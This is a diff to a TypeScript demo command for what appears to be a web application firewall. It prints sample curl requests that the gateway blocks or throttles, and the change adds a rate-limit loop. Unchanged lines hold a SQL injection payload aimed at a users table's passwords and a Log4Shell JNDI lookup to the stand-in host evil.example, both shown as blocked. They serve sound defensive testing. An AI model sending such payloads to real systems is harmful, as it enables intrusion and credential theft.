@@ -60,6 +60,7 @@ export function registerDemoCommand(program: Command): void {
         `  curl -i -X POST ${gateway}/api/books -H 'content-type: application/json' -d '${'['.repeat(70)}${']'.repeat(70)}'   # nested too deep: 400`,
         `  curl -i -X POST ${gateway}/api/books -H 'content-type: application/json' -d "{\\"title\\":\\"1' union select password from users--\\",\\"author\\":\\"y\\"}"   # SQL injection: 403 naming the rules`,
         `  curl -i ${gateway}/api/books -H 'User-Agent: \${jndi:ldap://evil.example/a}'   # Log4Shell lookup in a header: 403`,
+        `  for i in $(seq 12); do curl -s -o /dev/null -w '%{http_code} ' -X POST ${gateway}/api/books -H 'content-type: application/json' -d '{"title":"t","author":"a"}'; done; echo   # 10 writes a minute, then 429 with Retry-After`,
         `  curl -i ${gateway}/api/books -H 'X-Forwarded-For: 203.0.113.9'   # ignored: not from a trusted proxy`,
         `  curl -s ${running.adminUrl ?? ''}/metrics | grep bulwark_`,
         '',
